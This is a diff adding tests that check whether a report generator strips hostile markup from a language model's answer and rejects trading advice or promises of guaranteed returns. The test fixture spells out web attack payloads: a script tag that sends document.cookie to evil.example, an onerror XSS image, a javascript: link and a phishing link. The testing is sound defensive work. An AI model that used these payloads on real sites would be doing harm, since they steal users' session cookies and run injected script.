@@ -8,6 +8,8 @@ import { quotedFigures, unsupportedFigures } from "./figures.js";
 import { cleanText, type AnalysisInputs } from "./inputs.js";
 import { factsBlock, promptMessages, promptTemplate } from "./prompt.js";
 import { MalformedAnswer, SECTIONS, checkAnswer, parseSections, renderReport } from "./sections.js";
+import { adviceIn } from "./advice.js";
+import { plainText } from "./plain-text.js";
 
 const body = (title: string) => `Text of ${title.toLowerCase()}.`;
 const answer = (titles: readonly string[] = SECTIONS.map((s) => s.title)) =>
@@ -90,6 +92,71 @@ describe("a model's answer", () => {
     expect(
       unsupportedFigures(`Its last move was in ${JSON.stringify("Will BTC reach 150,000 by 2027?")}.`, inputs),
     ).toEqual([]);
+  });
+});
+
+/** What the issue's hostile model endpoint answered, in every section. */
+const HOSTILE = [
+  "[claim here](https://evil.example/phish) for the full story.",
+  "<script>fetch('https://evil.example/'+document.cookie)</script>",
+  '<img src=x onerror="alert(1)"> ![tracker](https://evil.example/pixel.png)',
+  '<a href="javascript:alert(2)">details</a> at www.evil.example/more <!-- hidden -->',
+].join("\n");
+
+describe("a model's answer, as served", () => {
+  it("keeps no markup: HTML, links, images and URLs go, the words stay, figures are still checked", () => {
+    const sections = checkAnswer(
+      answer().replace(body("Summary"), `The wallet's P&L is -$1,234.57.\n${HOSTILE}`),
+      inputs,
+      10_000,
+    );
+    const report = renderReport(sections);
+    const summary = sections.find((s) => s.key === "summary")!.text;
+    expect(summary).toContain("claim here for the full story.");
+    expect(summary).toContain("details at");
+    for (const markup of ["<", ">", "](", "http", "www.", "javascript:", 'onerror="', "evil.example", "hidden"])
+      expect(report, markup).not.toContain(markup);
+    // A figure inside the removed markup is gone; one in the words is still checked.
+    expect(() =>
+      checkAnswer(answer().replace(body("Summary"), `${HOSTILE}\nIt made $99,999.00.`), inputs, 10_000),
+    ).toThrow(/not among the inputs: \$99,999.00/);
+    expect(plainText("A win rate < 50% and > 10%, [1] of them")).toBe(
+      "A win rate \uff1c 50% and \uff1e 10%, \uff3b1\uff3d of them",
+    );
+  });
+
+  it("is refused when it claims certain returns or tells the reader to trade, like a missing section", () => {
+    const saying = (text: string) => () => checkAnswer(answer().replace(body("Risks"), text), inputs, 10_000);
+    for (const text of [
+      "Buy YES on every market this wallet enters. Guaranteed returns.",
+      "Guaranteed returns for anyone who follows it.",
+      "Its profits are guaranteed.",
+      "A risk-free way to earn.",
+      "You can't lose with this wallet.",
+      "It is a sure bet.",
+      "- Copy this wallet's trades.",
+      "1. Sell NO before the close.",
+      "You should buy what it buys.",
+      "We recommend copying its entries.",
+      "Consider mirroring its positions.",
+      "Traders: go long on its markets.",
+    ]) {
+      expect(saying(text), text).toThrow(MalformedAnswer);
+      try {
+        saying(text)();
+      } catch (error) {
+        expect(error, text).toMatchObject({ kind: "trading_advice" });
+      }
+    }
+    for (const text of [
+      "It bought YES in most markets and sold NO early.",
+      "Past results do not guarantee future returns; its returns are not guaranteed.",
+      "There are no guaranteed returns in prediction markets.",
+      "Following its losses in Sports, it traded less.",
+      "Its buyers and sellers were mostly whales. It copies no one.",
+      "Its risk is concentrated: a loss in one market would hurt.",
+    ])
+      expect(adviceIn(text), text).toBeNull();
   });
 });
 
